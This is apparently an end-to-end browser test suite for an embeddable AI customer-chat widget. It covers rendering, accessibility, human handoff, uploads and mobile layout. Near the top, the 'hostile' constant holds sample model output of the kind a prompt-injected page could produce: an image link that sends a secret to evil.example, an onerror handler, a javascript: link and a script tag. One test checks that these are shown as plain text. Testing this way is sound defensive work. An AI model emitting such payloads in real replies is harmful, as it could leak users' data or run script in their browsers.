import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Scope from "effect/Scope"
import * as Fs from "node:fs"
import * as Http from "node:http"
import type { AddressInfo } from "node:net"
import * as Path from "node:path"
import type { Browser, BrowserContext, BrowserContextOptions, Locator, Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { removeFolder, root, type Spoke, start, temporaryFolder, until } from "../e2e/Spoke.ts"
import * as ModelStub from "../servers/ModelStub.ts"
import { complaints, desktop, hasBrowser, launch, look, phone } from "./Browser.ts"

const owner = { SPOKE_ADMIN_EMAIL: "owner@example.com", SPOKE_ADMIN_PASSWORD: "correct horse battery" }

const pixel = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64"
)

/** What a hostile page or source could make a model write. */
const hostile =
  'Look: ![x](https://evil.example/leak?secret=1) <img src="https://evil.example/a.png" onerror="alert(1)"> ' +
  "[click](javascript:alert(1)) <script>alert(1)</script> [docs](https://example.com/docs)."

/** The label, or the id, of what has the focus in the widget. */
const focused = (page: Page) =>
  page.evaluate(`(() => {
    const at = document.activeElement?.shadowRoot?.activeElement
    return at?.getAttribute("aria-label") ?? at?.id ?? null
  })()`)

describe.skipIf(!hasBrowser)("The widget on a page of another origin", () => {
  const dataDir = temporaryFolder()
  const scope = Effect.runSync(Scope.make())
  let stub: ModelStub.ModelStub
  let spoke: Spoke
  let browser: Browser
  let key = ""
  let cookie = ""
  let address = ""

  /** A strict page: only our script, and only connections to the service. */
  const site = Http.createServer((request, response) => {
    const query = new URL(request.url ?? "/", "http://page.example").searchParams
    const attributes = [...query].map(([name, value]) => `data-${name}="${value}"`).join(" ")
    response.writeHead(200, {
      "content-type": "text/html; charset=utf-8",
      "content-security-policy": `default-src 'none'; script-src ${spoke.url}; connect-src ${spoke.url} ${spoke.url.replace("http", "ws")}`
    })
    response.end(
      `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width"><title>Shop</title><main><h1>Shop</h1><p>We sell bicycles.</p></main><script src="${spoke.url}/widget.js" ${attributes}></script></html>`
    )
  })

  const asOwner = (method: string, path: string, body?: unknown) =>
    spoke.request(method, path, { key: null, headers: { cookie, "x-spoke-csrf": "1" }, body })

  const visit = async (
    options: BrowserContextOptions = desktop,
    attributes = ""
  ): Promise<{ context: BrowserContext; page: Page; wrong: ReadonlyArray<string> }> => {
    const context = await browser.newContext(options)
    const page = await context.newPage()
    const wrong = complaints(page)
    await page.goto(`${address}/?key=${key}${attributes}`)
    return { context, page, wrong }
  }

  const open = async (page: Page) => {
    await page.getByRole("button", { name: "Open chat" }).click()
    await page.getByRole("dialog").waitFor()
  }

  const say = async (page: Page, message: string) => {
    await page.getByLabel("Message", { exact: true }).fill(message)
    await page.keyboard.press("Enter")
  }

  const bubbles = (page: Page) => page.locator(".bubble")

  beforeAll(async () => {
    stub = await Effect.runPromise(Scope.extend(ModelStub.make, scope))
    spoke = await start(dataDir, {
      ...owner,
      OPENAI_BASE_URL: stub.url,
      OPENAI_API_KEY: "sk-stub",
      SPOKE_EMBEDDING_MODEL: "offline"
    })
    browser = await launch()
    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve))
    address = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
    const login = await spoke.request("POST", "/api/auth/login", {
      key: null,
      headers: { "x-spoke-csrf": "1" },
      body: { email: owner.SPOKE_ADMIN_EMAIL, password: owner.SPOKE_ADMIN_PASSWORD }
    })
    cookie = login.headers.get("set-cookie")?.split(";")[0] ?? ""
    const { body } = await asOwner("GET", "/api/agents")
    const made = await asOwner("POST", `/api/agents/${body.data.agents[0].id}/keys`, {
      name: "Widget",
      permissions: ["chat"],
      allowedOrigins: [address]
    })
    key = made.body.data.secret
    await until(
      () => spoke.request("GET", "/v1/sources"),
      ({ body }) => body.data.sources.every(({ status }: { status: string }) => status === "READY"),
      30_000
    )
  }, 60_000)

  afterAll(async () => {
    await browser.close()
    await spoke.kill()
    site.close()
    removeFolder(dataDir)
    await Effect.runPromise(Scope.close(scope, Exit.void))
  })

  it("is at most 25 kB compressed before it is opened and 75 kB after it, and writes no HTML", async () => {
    const size = (name: string) => Fs.statSync(Path.join(root, "dist/ui", `${name}.gz`)).size
    expect(size("widget.js")).toBeLessThan(25_000)
    expect(size("widget.js") + size("widget-markdown.js")).toBeLessThan(75_000)
    for (const folder of ["src/ui/widget", "src/ui/markdown"]) {
      for (const name of Fs.readdirSync(Path.join(root, folder))) {
        const text = Fs.readFileSync(Path.join(root, folder, name), "utf8")
        expect(text).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|dangerously|<img/u)
      }
    }
    const { context, page } = await visit()
    const asked: Array<string> = []
    page.on("request", (request) => asked.push(new URL(request.url()).pathname))
    await page.reload()
    await page.waitForLoadState("networkidle")
    expect(asked).not.toContain("/widget-markdown.js")
    await open(page)
    await until(
      async () => asked,
      (paths) => paths.includes("/widget-markdown.js")
    )
    await context.close()
  })

  it("renders a reply from its first word on, and announces it without Markdown", async () => {
    const { context, page, wrong } = await visit()
    await open(page)
    await page.evaluate(`(() => {
      window.seen = []
      const root = document.querySelector("spoke-chat").shadowRoot
      new MutationObserver(() => window.seen.push(root.querySelector(".messages")?.innerText ?? ""))
        .observe(root, { childList: true, subtree: true, characterData: true })
    })()`)
    stub.script.push({
      gap: 40,
      text: "You can return it [1]:\n\n1. **Open the order**\n\n   In the *app*.\n\n2. Choose the item\n\nThen:\n\n3. Print the label\n\n| Product | Window | Who pays | Refund |\n|---|---|---|---|\n| Lamps | 30 days | We do | 5 working days |\n\nSee <https://example.com> [9]."
    })
    await say(page, "What is a source?")
    // While the rest is still being written.
    const chip = page.getByRole("button", { name: /^Source 1/ })
    await chip.waitFor()
    expect(await page.getByRole("button", { name: "Helpful", exact: true }).count()).toBe(0)
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    const seen = (await page.evaluate("window.seen")) as ReadonlyArray<string>
    expect(seen.length).toBeGreaterThan(10)
    expect(seen.filter((text) => /\*|\[\d|\||<http/u.test(text))).toEqual([])
    const starts = await page
      .locator(".bubble ol:not(.sources)")
      .evaluateAll((lists) => lists.map((list) => list.getAttribute("start")))
    expect(starts).toEqual([null, "3"])
    expect(await page.getByRole("link", { name: "https://example.com", exact: true }).count()).toBe(1)
    const heights = await page.locator("th").evaluateAll((cells) => cells.map((cell) => cell.clientHeight))
    expect(Math.max(...heights)).toBeLessThan(40)
    const spoken = (await page.getByRole("log").textContent()) ?? ""
    expect(spoken).toContain("1. Open the order")
    expect(spoken).not.toMatch(/\*|\[\d|\|/u)
    await look(page, "widget-markdown")
    expect(wrong).toEqual([])
    await context.close()
  })

  it("sets code from left to right in a reply that runs from right to left, and each paragraph by its letters", async () => {
    const { context, page } = await visit()
    await open(page)
    stub.script.push({
      text: "شغّل هذا الأمر في مجلد المشروع ثم انتظر قليلا حتى يبدأ.\n\nشغّل هذا:\n\n```\nnpx spoke serve\n```\n\nThen open the page."
    })
    await say(page, "How do I start it?")
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    const edges = (text: string) =>
      bubbles(page)
        .getByText(text)
        .evaluate((element) => {
          const range = element.ownerDocument.createRange()
          range.selectNodeContents(element)
          const box = (element.closest("p, pre") ?? element).getBoundingClientRect()
          const words = range.getBoundingClientRect()
          return words.left - box.left < box.right - words.right ? "left" : "right"
        })
    expect(await edges("شغّل هذا:")).toBe("right")
    expect(await edges("npx spoke serve")).toBe("left")
    expect(await edges("Then open the page.")).toBe("left")
    const code = bubbles(page).getByText("npx spoke serve")
    expect(
      await code.evaluate((element) => element.ownerDocument.defaultView?.getComputedStyle(element).direction)
    ).toBe("ltr")
    await look(page, "widget-right-to-left")
    await context.close()
  })

  it("shows the Markdown source of a reply if the page's policy forbids the renderer", async () => {
    const { context, page } = await visit()
    await page.route("**/widget-markdown.js*", (route) => route.abort())
    await open(page)
    stub.script.push({ text: "A **bold** word." })
    await say(page, "Be bold")
    await page.getByText("A **bold** word.").first().waitFor()
    await context.close()
  })

  it("scrolls to a message that was just sent, and otherwise keeps the scroll position", async () => {
    const { context, page } = await visit()
    await open(page)
    const scroller = page.getByRole("region", { name: "Conversation" })
    stub.script.push({ text: "A long reply. ".repeat(200) })
    await say(page, "Tell me everything")
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    await scroller.evaluate((element) => element.scrollTo({ top: 0 }))
    await new Promise((resolve) => setTimeout(resolve, 200))
    stub.script.push({ text: "Another long reply. ".repeat(200), gap: 10 })
    await say(page, "And what else?")
    const mine = page.locator(".mine").last()
    const lowest = desktop.viewport?.height ?? 0
    await until(
      () => mine.evaluate((element) => element.getBoundingClientRect().bottom),
      (bottom) => bottom <= lowest
    )
    await page.getByText("Another long reply.").first().waitFor()
    await scroller.evaluate((element) => element.scrollTo({ top: 50 }))
    await page.getByRole("button", { name: "Helpful", exact: true }).nth(1).waitFor()
    expect(await scroller.evaluate((element) => element.scrollTop)).toBe(50)
    await context.close()
  })

  it("keeps the start of a long reply and its question in view, and follows a short one to its end", async () => {
    for (const options of [desktop, phone]) {
      const { context, page } = await visit(options)
      await open(page)
      const scroller = page.getByRole("region", { name: "Conversation" })
      const isIn = (selector: string) =>
        scroller.evaluate((list, wanted) => {
          const edge = list.getBoundingClientRect()
          const top = [...list.querySelectorAll(wanted)].at(-1)?.getBoundingClientRect().top ?? 0
          return top >= edge.top && top < edge.bottom
        }, selector)
      const fromEnd = () =>
        scroller.evaluate(
          ({ clientHeight, scrollHeight, scrollTop }) => scrollHeight - scrollTop - clientHeight
        )
      const rated = page.getByRole("button", { name: "Helpful", exact: true })
      stub.script.push({ text: "A long reply. ".repeat(300), gap: 2 })
      await say(page, "Tell me everything")
      await rated.waitFor()
      expect([await isIn(".mine"), await isIn(".theirs"), (await fromEnd()) > 100]).toEqual([
        true,
        true,
        true
      ])
      stub.script.push({ text: "A short reply." })
      await say(page, "And in short?")
      await rated.nth(1).waitFor()
      expect([await isIn(".mine"), await isIn(".theirs"), (await fromEnd()) < 5]).toEqual([true, true, true])
      // A long question leaves room for the start of its reply.
      stub.script.push({ text: "Another long reply. ".repeat(300) })
      await say(page, "A long question. ".repeat(150))
      await rated.nth(2).waitFor()
      expect([await isIn(".theirs"), (await fromEnd()) > 100]).toEqual([true, true])
      // Who has scrolled to the end of a reply stays there.
      await scroller.evaluate((list) => list.scrollTo(0, list.scrollHeight))
      await rated.nth(2).click()
      await page.getByText("Thank you for the feedback.").waitFor()
      expect(await fromEnd()).toBeLessThan(64)
      await context.close()
    }
  })

  it("streams a reply with its sources, takes feedback, and works by keyboard alone under a strict policy", async () => {
    const { context, page, wrong } = await visit()
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    await page.getByRole("dialog").waitFor()
    stub.script.push({ text: "A **source** is where the agent's knowledge comes from [1]." })
    await page.locator("header button").first().waitFor()
    await page.keyboard.type("What is a source?")
    await page.keyboard.press("Enter")
    await page.getByRole("button", { name: /^Source 1/ }).waitFor()
    await until(
      () => page.getByRole("log").textContent(),
      (text) => text === "A source is where the agent's knowledge comes from."
    )
    await page.getByRole("button", { name: /^Source 1/ }).click()
    const note = page
      .getByRole("list", { name: /^\d+ sources?$/ })
      .getByRole("listitem")
      .first()
    expect(await note.evaluate((node) => node.matches(":focus"))).toBe(true)
    expect(await note.textContent()).toMatch(/\w/u)
    // Between headings there is the sign that extracts have, too.
    expect(await page.locator(".sources").allTextContents()).not.toContainEqual(expect.stringMatching(/ > /u))
    await page.getByRole("button", { name: "Helpful", exact: true }).click()
    await page.getByText("Thank you for the feedback.").waitFor()
    await look(page, "widget")
    // A comment is optional.
    await page.getByRole("button", { name: "Not helpful" }).click()
    await page.getByLabel("What was wrong? (optional)").focus()
    await page.keyboard.press("Enter")
    await page.getByText("Thank you for the feedback.").waitFor()
    expect(await focused(page)).toBe("Not helpful")
    await page.keyboard.press("Escape")
    expect(await page.getByRole("dialog").count()).toBe(0)
    expect(
      await page.getByRole("button", { name: "Open chat" }).evaluate((node) => node.matches(":focus"))
    ).toBe(true)
    expect(wrong).toEqual([])
    await context.close()
  })

  it("shows hostile replies as text, and loads nothing from other hosts", async () => {
    const { context, page, wrong } = await visit()
    const foreign: Array<string> = []
    page.on("request", (request) => {
      if (!request.url().startsWith(spoke.url)) foreign.push(request.url())
    })
    await open(page)
    stub.script.push({ text: hostile })
    await say(page, "Be evil")
    await page.getByRole("link", { name: "docs (https://example.com/docs)" }).waitFor()
    expect(await page.locator("img, script:not([data-key]), iframe, a[href^=javascript]").count()).toBe(0)
    expect(foreign).toEqual([])
    expect(wrong).toEqual([])
    await context.close()
  })

  it("shows the stored reply after a reload during the stream, and never sends a message twice", async () => {
    const { context, page } = await visit()
    await open(page)
    stub.script.push({ text: "One two three four five six seven eight nine ten.", gap: 150 })
    const before = stub.requests.length
    await say(page, "Count to ten")
    await page.getByText("One two").waitFor()
    await page.reload()
    await open(page)
    await page.getByText("One two three four five six seven eight nine ten.").first().waitFor()
    await until(
      () => bubbles(page).allTextContents(),
      (texts) => texts.length === 3
    )
    expect(stub.requests.length - before).toBe(1)
    await context.close()
  })

  it("leaves a pending message to its page, and to the next page after that one was closed", async () => {
    const { context, page } = await visit()
    const notArrived = "Your message did not arrive."
    const field = (of: Page) => of.getByLabel("Message", { exact: true })
    const another = async () => {
      const next = await context.newPage()
      await next.goto(`${address}/?key=${key}`)
      await open(next)
      await next.locator(".bubble", { hasText: "Hello." }).waitFor()
      return next
    }
    await open(page)
    stub.script.push({ text: "Hello." })
    await say(page, "Hi")
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    // From here on, what this page sends never arrives.
    const hold = `{
      const send = globalThis.fetch
      globalThis.fetch = (url, options) =>
        String(url).endsWith("/chat/stream") ? new Promise(() => {}) : send(url, options)
    }`
    await page.evaluate(hold)
    await page.addInitScript(hold)
    await say(page, "Is it in stock?")
    const mine = page.locator(".bubble", { hasText: "Is it in stock?" })
    await mine.waitFor()
    const second = await another()
    stub.script.push({ text: "We do." })
    await say(second, "Do you ship to Norway?")
    await second.locator(".bubble", { hasText: "We do." }).waitFor()
    expect([await mine.count(), await second.getByText("Is it in stock?").count()]).toEqual([1, 0])
    await page.reload()
    await open(page)
    await page.getByText(notArrived).waitFor()
    expect(await field(page).inputValue()).toBe("Is it in stock?")
    await page.keyboard.press("Enter")
    await mine.waitFor()
    await page.close()
    const third = await another()
    await third.getByText(notArrived).waitFor()
    const values = await Promise.all([second, third, await another()].map((of) => field(of).inputValue()))
    expect(values).toEqual(["", "Is it in stock?", ""])
    await context.close()
  })

  it("hands over to a human, whose replies appear at once, and begins a new conversation after a closed one", async () => {
    const { context, page, wrong } = await visit()
    await open(page)
    stub.script.push({ text: "Gladly." })
    await say(page, "I want a refund")
    await page.getByText("Gladly.").first().waitFor()
    await page.getByRole("button", { name: "Talk to a person" }).click()
    // Said once, as a message.
    await page.locator(".bubble", { hasText: "A member of our team is taking over" }).waitFor()
    expect(await page.locator(".bubble", { hasText: "A member of our team" }).count()).toBe(1)
    expect(await page.getByText("We have asked the team.").count()).toBe(0)
    // The button is gone, and the focus stays in the chat.
    expect(await page.getByRole("button", { name: "Talk to a person" }).count()).toBe(0)
    expect(await focused(page)).toBe("Message")
    await look(page, "widget-handoff")
    await say(page, "Is anybody there?")
    const { body } = await asOwner("GET", "/api/conversations?state=HUMAN_REQUESTED")
    const { id } = body.data.conversations[0]
    const said = await asOwner("POST", `/api/conversations/${id}/messages`, { content: "Ada here, hello!" })
    expect(said.status).toBe(201)
    await page.locator(".bubble", { hasText: "Ada here, hello!" }).waitFor()
    await page.getByText("You are talking with a person.").waitFor()
    expect(await page.locator(".bubble", { hasText: "Ada here" }).count()).toBe(1)
    await look(page, "widget-human")
    await page.getByLabel("Message", { exact: true }).focus()
    expect((await asOwner("POST", `/api/conversations/${id}/close`)).status).toBe(200)
    await page.getByRole("button", { name: "Start a new conversation" }).waitFor()
    expect(await focused(page)).toBe("panel")
    await page.getByRole("button", { name: "Start a new conversation" }).click()
    expect(await focused(page)).toBe("Message")
    stub.script.push({ text: "Welcome back." })
    await say(page, "Another thing")
    await page.locator(".bubble", { hasText: "Welcome back." }).waitFor()
    expect(wrong).toEqual([])
    await context.close()
  })

  it("announces all messages that arrive together", async () => {
    const { context, page } = await visit()
    await open(page)
    stub.script.push({ text: "Gladly." })
    await say(page, "I need two answers")
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    const { body } = await asOwner("GET", "/api/conversations?limit=1")
    const { id } = body.data.conversations[0]
    let release = () => {}
    const held = new Promise<void>((resolve) => (release = resolve))
    await page.route("**/api/sdk/conversation?*", async (route) => {
      await held
      await route.continue()
    })
    for (const content of ["The first answer.", "The second answer."])
      expect((await asOwner("POST", `/api/conversations/${id}/messages`, { content })).status).toBe(201)
    release()
    await page.locator(".bubble", { hasText: "The second answer." }).waitFor()
    await until(
      () => page.getByRole("log").textContent(),
      (text) => text === "The first answer.The second answer."
    )
    await context.close()
  })

  it("checks files before they are sent, and sends those that the service accepts", async () => {
    const { context, page } = await visit()
    await open(page)
    const [chooser] = await Promise.all([
      page.waitForEvent("filechooser"),
      page.getByRole("button", { name: "Attach files" }).click()
    ])
    await chooser.setFiles([
      { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("no") },
      { name: "dot.png", mimeType: "image/png", buffer: pixel }
    ])
    await page.getByText("notes.txt: only JPEG, PNG, WebP, GIF and PDF can be sent.").waitFor()
    await look(page, "widget-files")
    stub.script.push({ text: "A dot." })
    await say(page, "What is this?")
    await page.locator(".bubble", { hasText: "A dot." }).waitFor()
    await context.route("**/api/sdk/attachments/**", (route) => route.abort())
    await page.getByRole("button", { name: "Download dot.png" }).click()
    await page.getByRole("alert").getByText("Something went wrong. Please try again.").waitFor()
    await context.unroute("**/api/sdk/attachments/**")
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download dot.png" }).click()
    ])
    expect(download.suggestedFilename()).toBe("dot.png")
    expect(await page.getByText("Something went wrong.").count()).toBe(0)
    /** Whether the field itself takes what is dropped on it. */
    const isTakenByField = (carried: string) =>
      page.evaluate(`(() => {
        const dataTransfer = new DataTransfer()
        dataTransfer.items.add(${carried})
        const event = new DragEvent("drop", { bubbles: true, cancelable: true, composed: true, dataTransfer })
        return document.querySelector("spoke-chat").shadowRoot.querySelector("textarea").dispatchEvent(event)
      })()`)
    expect(await isTakenByField('"a", "text/plain"')).toBe(true)
    expect(await isTakenByField('new File(["a"], "a.png", { type: "image/png" })')).toBe(false)
    await page.getByRole("button", { name: "Remove a.png" }).waitFor()
    await context.close()
  })

  it("keeps the focus in a field of the page when the page closes the widget", async () => {
    const { context, page } = await visit()
    await open(page)
    const before = await page.evaluate(`(() => {
      const field = document.querySelector("main").appendChild(document.createElement("input"))
      field.focus()
      Spoke.close()
      return document.activeElement === field
    })()`)
    expect(before).toBe(true)
    await open(page)
    await page.evaluate("Spoke.close()")
    expect(await focused(page)).toBe("Open chat")
    await context.close()
  })

  it("is translated to German and fills the screen of a phone", async () => {
    const { context, page, wrong } = await visit(phone, "&language=de&accent=rebeccapurple&open")
    await page.getByRole("dialog").waitFor()
    const code = "npm install ".repeat(12)
    const word = "Donaudampfschifffahrt".repeat(6)
    stub.script.push({
      text: `Gern! Hier ist ein sehr langes Wort: ${word} [1]\n\n\`\`\`sh\n${code}\n\`\`\``
    })
    await page.getByLabel("Nachricht", { exact: true }).fill("What is a source?")
    await page.getByRole("button", { name: "Senden" }).click()
    await page.locator(".bubble", { hasText: "Gern!" }).waitFor()
    await page.getByRole("button", { name: "Hilfreich", exact: true }).waitFor()
    const small = await page
      .locator(".panel :is(button:not(.chip), textarea, .sources a)")
      .evaluateAll((all) =>
        all
          .map((node) => [node.className || node.textContent, node.getBoundingClientRect().height] as const)
          .filter(([, height]) => height < 44)
      )
    expect(small).toEqual([])
    const box = await page.locator(".bubble pre").evaluate((pre) => pre.scrollWidth > pre.clientWidth)
    expect(box).toBe(true)
    await look(page, "widget-phone")
    expect(wrong).toEqual([])
    await context.close()
  })

  it("stays in the part of the window that an on-screen keyboard leaves, with the end of the conversation", async () => {
    const { context, page } = await visit(phone)
    const size = phone.viewport ?? { width: 0, height: 0 }
    // Chromium shows no keyboard here: only the size of the visible part is simulated.
    await page.addInitScript(`
      const area = Object.assign(new EventTarget(), { height: innerHeight, offsetTop: 0, scale: 1 })
      Object.defineProperty(window, "visualViewport", { get: () => area })
      window.setArea = (changes) => {
        Object.assign(area, changes)
        area.dispatchEvent(new Event("resize"))
        return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
      }`)
    await page.reload()
    await open(page)
    stub.script.push({ text: "A long reply. ".repeat(100) })
    await say(page, "Tell me everything")
    await page.getByRole("button", { name: "Helpful", exact: true }).waitFor()
    const scroller = page.getByRole("region", { name: "Conversation" })
    await scroller.evaluate((list) => list.scrollTo(0, list.scrollHeight))
    const panel = page.getByRole("dialog")
    const isAtEnd = () =>
      scroller.evaluate(
        ({ clientHeight, scrollHeight, scrollTop }) => scrollHeight - scrollTop - clientHeight < 2
      )
    expect(await panel.boundingBox()).toEqual({ x: 0, y: 0, ...size })
    await page.evaluate("setArea({ height: 420, offsetTop: 30 })")
    expect(await panel.boundingBox()).toEqual({ x: 0, y: 30, width: size.width, height: 420 })
    const field = await page.getByLabel("Message", { exact: true }).boundingBox()
    expect((field?.y ?? 0) + (field?.height ?? 0)).toBeLessThan(450)
    expect(await isAtEnd()).toBe(true)
    await look(page, "widget-phone-keyboard")
    // The bar of the browser is no keyboard, and a visitor who zooms in has none.
    for (const changes of ["{ height: 760, offsetTop: 0 }", "{ height: 400, scale: 2 }"]) {
      await page.evaluate(`setArea(${changes})`)
      expect(await panel.boundingBox()).toEqual({ x: 0, y: 0, ...size })
    }
    // A turned phone is too wide for the chat to cover the page.
    await page.setViewportSize({ width: size.height, height: size.width })
    await page.evaluate("setArea({ height: 180, offsetTop: 12, scale: 1 })")
    const { y = 0, height = 0 } = (await panel.boundingBox()) ?? {}
    expect([y, height]).toEqual([20, 164])
    expect(await isAtEnd()).toBe(true)
    // Safari zooms in at fields with smaller text.
    const fontSize = await page
      .getByLabel("Message", { exact: true })
      .evaluate((element) => element.ownerDocument.defaultView?.getComputedStyle(element).fontSize)
    expect(fontSize).toBe("16px")
    await context.close()
  })

  it("leaves out what bars of the system and the camera cover on a page that extends below them", async () => {
    const { context, page } = await visit(phone)
    const devtools = await context.newCDPSession(page)
    const insets = { top: 47, topMax: 47, bottom: 34, bottomMax: 34 }
    await devtools.send("Emulation.setSafeAreaInsetsOverride", { insets })
    const bottomOf = async (box: ReturnType<Locator["boundingBox"]>) => {
      const { y = 0, height = 0 } = (await box) ?? {}
      return y + height
    }
    const launcher = page.getByRole("button", { name: "Open chat" })
    expect(await bottomOf(launcher.boundingBox())).toBe(844 - 34)
    await open(page)
    expect((await page.locator("header").boundingBox())?.y).toBe(47)
    expect(await bottomOf(page.locator(".composer").boundingBox())).toBe(844 - 34)
    await context.close()
  })

  it("shows the notice of a handoff once and in its own language", async () => {
    const { context, page } = await visit(desktop, "&language=de")
    await page.getByRole("button", { name: "Chat öffnen" }).click()
    stub.script.push({ calls: [{ name: "hand_off_to_human", arguments: '{"reason":"Refund"}' }] })
    stub.script.push({ text: "" })
    await page.getByLabel("Nachricht", { exact: true }).fill("I want to talk to a person please")
    await page.keyboard.press("Enter")
    const told = page.locator(".bubble", { hasText: "Ein Mensch aus unserem Team übernimmt" })
    await told.waitFor()
    await page.locator(".mine").waitFor()
    await until(
      () => page.locator(".bubble").allTextContents(),
      (texts) => texts.length === 3
    )
    expect(await page.getByText("A member of our team").count()).toBe(0)
    expect(await page.getByText("Wir haben das Team gefragt.").count()).toBe(0)
    expect(await page.getByRole("log").textContent()).toContain("Ein Mensch aus unserem Team")
    await context.close()
  })

  it("shows an error on a page that the key does not allow", async () => {
    const context = await browser.newContext(desktop)
    const page = await context.newPage()
    await page.goto(`${address.replace("127.0.0.1", "localhost")}/?key=${key}`)
    await open(page)
    await page.getByText("This chat is not allowed on this website.").waitFor()
    await context.close()
  })
})
